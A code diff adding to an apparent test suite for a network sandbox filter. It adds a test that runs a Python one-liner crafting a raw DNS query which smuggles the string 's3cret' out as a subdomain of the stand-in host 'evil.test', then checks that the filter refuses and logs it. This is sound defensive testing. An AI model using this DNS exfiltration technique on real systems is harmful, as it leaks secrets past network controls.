@@ -349,12 +349,31 @@ for i in range(4):
       inJob('sysctl', '-qw', 'net.ipv4.ip_unprivileged_port_start=0');
       await serve(lab.job, 'local-dns.py', address, `${port}`, WORLD.dns);
       nat('-A');
+      // As on a machine with a firewall: conntrack knows flows from before a run.
+      inJob('iptables', '-A', 'INPUT', '-m', 'conntrack', '--ctstate', 'ESTABLISHED', '-j', 'ACCEPT');
       writeFileSync(path(), `nameserver ${address}\n`);
     });
     afterAll(() => {
       writeFileSync(path(), saved);
       nat('-D');
+      inJob('iptables', '-D', 'INPUT', '-m', 'conntrack', '--ctstate', 'ESTABLISHED', '-j', 'ACCEPT');
       inJob('sysctl', '-qw', 'net.ipv4.ip_unprivileged_port_start=1024');
+    });
+
+    test('answers nobody past the filter, from the port of somebody outside who asked a moment ago', async () => {
+      // Without the filter the program is that somebody.
+      const ask = `import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.bind(('127.0.0.1', 40404)); s.connect(('${address}', 53))
+try: s.send(struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + b'\\x06s3cret\\x04evil\\x04test\\0\\0\\1\\0\\1'); print('answer', len(s.recv(512)) > 12)
+except OSError as error: print('refused', error)`;
+      const { free, caught } = await attack(lab, [PYTHON, '-c', ask], { policy: POLICY });
+      expect(free.stdout).toContain('answer True');
+      expect(evil(asked(free))).toEqual(['s3cret.evil.test']);
+      expect(evil(asked(caught))).toEqual([]);
+      expect(caught.stdout).toContain('refused');
+      expect(denials(caught)).toContainEqual(
+        expect.objectContaining({ type: 'ip', protocol: 'udp', dst_ip: address, exe: PYTHON_EXE, uid: 65534 }),
+      );
     });
 
     test("is nobody else's to take", async () => {
